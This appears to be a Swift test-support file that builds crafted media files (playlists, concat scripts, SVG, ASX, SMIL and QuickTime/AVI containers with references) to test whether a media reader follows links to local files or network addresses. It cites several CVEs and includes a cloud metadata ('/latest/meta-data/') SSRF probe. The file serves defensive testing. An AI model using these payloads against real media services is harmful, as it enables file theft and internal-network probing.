import Foundation
import SystemPackage
import TestSupport
import Testing

/// A file that makes careless readers open other files and addresses.
struct Lure: Sendable, CustomTestStringConvertible {
    let name: String
    /// From a file that is there and would do as a video, and an address that answers.
    let bytes: @Sendable (_ victim: FilePath, _ address: String) throws -> Data

    var testDescription: String { name }

    private init(_ name: String, _ bytes: @escaping @Sendable (FilePath, String) throws -> Data) {
        self.name = name
        self.bytes = bytes
    }

    private static func text(_ name: String, _ text: @escaping @Sendable (FilePath, String) -> String) -> Lure {
        Lure(name) { Data(text($0, $1).utf8) }
    }

    static let all = playlists + disguisedPlaylists + scripts + references

    // MARK: - Playlists (CVE-2016-1897, CVE-2016-1898, CVE-2017-9993, CVE-2026-107697)

    private static let entries: [(name: String, entry: @Sendable (FilePath, String) -> String)] = [
        ("a path", { victim, _ in victim.string }),
        ("file:", { victim, _ in "file://\(victim)" }),
        ("concat:", { victim, _ in "concat:\(victim)|\(victim)" }),
        ("subfile", { victim, _ in "subfile,,start,0,end,4096,,:\(victim)" }),
        ("async:", { victim, _ in "async:file:\(victim)" }),
        ("crypto:", { victim, _ in "crypto:file:\(victim)" }),
        ("data:", { victim, _ in "data:application/x-mpegURL,%23EXTM3U%0A%23EXTINF:1,%0Afile://\(victim)" }),
        ("http:", { _, address in "http://\(address)/latest/meta-data/" }),
        ("tcp:", { _, address in "tcp://\(address)" }),
    ]

    private static func playlist(_ entry: String) -> String {
        "#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n\(entry)\n#EXT-X-ENDLIST\n"
    }

    private static let playlists: [Lure] =
        entries.map { kind in text("playlist, \(kind.name)") { playlist(kind.entry($0, $1)) } } + [
            text("playlist of playlists") {
                "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nfile://\($0)\n#EXT-X-STREAM-INF:BANDWIDTH=2\nhttp://\($1)/a.m3u8\n"
            },
            text("playlist with a key and a map") {
                "#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"http://\($1)/key\"\n#EXT-X-MAP:URI=\"file://\($0)\"\n#EXTINF:4,\na\n"
            },
            text("PLS playlist") { "[playlist]\nFile1=file://\($0)\nFile2=http://\($1)/\nNumberOfEntries=2\n" },
            text("DASH manifest") {
                "<?xml version=\"1.0\"?><MPD type=\"static\"><BaseURL>http://\($1)/</BaseURL><BaseURL>\($0)</BaseURL></MPD>"
            },
        ]

    /// First bytes for which the file is taken as a container, with a playlist behind them.
    private static let heads: [(name: String, bytes: [UInt8])] = [
        ("AVI", Array("RIFF\u{0}\u{1}\u{0}\u{0}AVI \n".utf8)),
        ("QuickTime", [0, 0, 0, 20] + Array("ftypisom\u{0}\u{0}\u{2}\u{0}isom\n".utf8)),
        ("Matroska", [0x1A, 0x45, 0xDF, 0xA3, 0x80, 0x0A]),
        ("Flash", Array("FLV\u{1}\u{5}\u{0}\u{0}\u{0}\u{9}\n".utf8)),
        ("Ogg", Array("OggS\n".utf8)),
        ("program stream", [0, 0, 1, 0xBA, 0x0A]),
    ]

    private static let disguisedPlaylists = heads.map { head in
        Lure("playlist behind the head of \(head.name)") {
            Data(head.bytes) + Data(playlist("file://\($0)\n#EXTINF:4,\nhttp://\($1)/").utf8)
        }
    }

    // MARK: - Scripts and documents (CVE-2023-6602, CVE-2026-35032)

    private static let scripts: [Lure] = [
        text("concat script") { "ffconcat version 1.0\nfile '\($0)'\nfile 'http://\($1)/'\n" },
        text("concat script without a head") { "file '\($0)'\nfile 'http://\($1)/'\n" },
        text("session description") {
            "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=\($0)\nc=IN IP4 127.0.0.1\nt=0 0\nm=video \($1.split(separator: ":")[1]) RTP/AVP 96\n"
        },
        text("SVG with a picture") {
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"file://\($0)\"/><image href=\"http://\($1)/\"/></svg>"
        },
        text("an address alone") { "http://\($1)/\($0)" },
        text("ASX") { "<asx version=\"3.0\"><entry><ref href=\"http://\($1)/\"/><ref href=\"\($0)\"/></entry></asx>" },
        text("SMIL") { "<smil><body><video src=\"http://\($1)/\"/><video src=\"\($0)\"/></body></smil>" },
        text("AviSynth") { victim, _ in "AVISource(\"\(victim)\")\n" },
        text("terminal recording") { "\u{1B}[2J\u{1B}[1;31m\($0) http://\($1)/\u{1B}[0m\n" },
    ]

    // MARK: - References within containers

    private static let references: [Lure] = [
        Lure("QuickTime reference movie") { victim, address in
            let references = ["http://\(address)/\u{0}", "file://\(victim)\u{0}"].map { target in
                box(
                    "rmda",
                    box("rdrf", [0, 0, 0, 0] + Array("url ".utf8) + bigEndian(target.utf8.count) + Array(target.utf8))
                )
            }
            return Data(
                [0, 0, 0, 20] + Array("ftypqt  \u{0}\u{0}\u{2}\u{0}qt  ".utf8)
                    + box("moov", box("rmra", references.joined()))
            )
        },
        Lure("QuickTime data in another file") { victim, _ in
            let movie = [UInt8](try Data(contentsOf: URL(filePath: victim.string)))
            return Data(
                replacing("moov/trak/mdia/minf/dinf/dref", of: movie) { _ in
                    [0, 0, 0, 0, 0, 0, 0, 1] + box("alis", alias(of: victim))
                }
            )
        },
        Lure("AVI with a playlist as subtitles") { victim, address in
            let text = Array(playlist("file://\(victim)\n#EXTINF:4,\nhttp://\(address)/").utf8)
            let subtitles =
                Array("GAB2\u{0}\u{2}\u{0}".utf8) + littleEndian(2) + [0, 0, 4, 0] + littleEndian(text.count) + text
            let stream =
                chunk("strh", Array("txts".utf8) + [UInt8](repeating: 0, count: 52)) + chunk("strf", [0, 0, 0, 0])
            let header = chunk(
                "avih",
                [UInt8](repeating: 0, count: 24) + littleEndian(1) + [UInt8](repeating: 0, count: 28)
            )
            let body = list("hdrl", header + list("strl", stream)) + list("movi", chunk("00tx", subtitles))
            return Data(chunk("RIFF", Array("AVI ".utf8) + body))
        },
    ]

    private static func box(_ type: String, _ body: some Sequence<UInt8>) -> [UInt8] {
        let body = Array(body)
        return bigEndian(body.count + 8) + Array(type.utf8) + body
    }

    /// The content of the first box at each step of the path, replaced; the boxes around it are made to fit.
    private static func replacing(_ path: String, of boxes: [UInt8], with make: ([UInt8]) -> [UInt8]) -> [UInt8] {
        let steps = path.split(separator: "/", maxSplits: 1).map(String.init)
        var offset = 0
        while offset + 8 <= boxes.count {
            let size = boxes[offset..<offset + 4].reduce(0) { $0 << 8 | Int($1) }
            guard size >= 8, offset + size <= boxes.count else { return boxes }
            if boxes[offset + 4..<offset + 8].elementsEqual(steps[0].utf8) {
                let body = Array(boxes[offset + 8..<offset + size])
                let made = steps.count == 1 ? make(body) : replacing(steps[1], of: body, with: make)
                return Array(boxes[..<offset]) + box(steps[0], made) + Array(boxes[(offset + size)...])
            }
            offset += size
        }
        return boxes
    }

    /// An alias record of classic Mac OS, which names a file by its path.
    private static func alias(of file: FilePath) -> [UInt8] {
        let path = Array(file.string.utf8) + (file.string.utf8.count.isMultiple(of: 2) ? [] : [0])
        let fixed = [UInt8](repeating: 0, count: 4 + 10 + 28 + 12 + 64 + 16 + 4 + 16)
        return fixed + [0, 2] + bigEndian(path.count).suffix(2) + path + [0xFF, 0xFF, 0, 0]
    }

    private static func list(_ type: String, _ body: [UInt8]) -> [UInt8] { chunk("LIST", Array(type.utf8) + body) }

    private static func chunk(_ type: String, _ body: [UInt8]) -> [UInt8] {
        Array(type.utf8) + littleEndian(body.count) + body + (body.count.isMultiple(of: 2) ? [] : [0])
    }

    private static func bigEndian(_ value: Int) -> [UInt8] { littleEndian(value).reversed() }
    private static func littleEndian(_ value: Int) -> [UInt8] {
        (0..<4).map { UInt8(truncatingIfNeeded: value >> (8 * $0)) }
    }
}
